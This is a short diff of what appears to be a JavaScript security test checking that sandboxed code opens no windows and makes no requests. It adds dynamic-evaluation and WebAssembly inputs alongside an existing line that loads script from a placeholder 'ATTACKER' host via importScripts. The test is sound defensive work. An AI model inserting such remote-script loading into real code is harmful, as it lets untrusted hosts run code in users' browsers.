@@ -187,6 +187,8 @@ test('opens no windows and makes no requests', EXPECTED, async (visit) => {
       ...both,
       script: 'importScripts("https://ATTACKER/a.js")',
       siteScript: 'importScripts("/boot.js")',
+      evaluate: "new Function('return 1')()",
+      wasm: 'new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))',
     },
     bundle: {
       ...both,
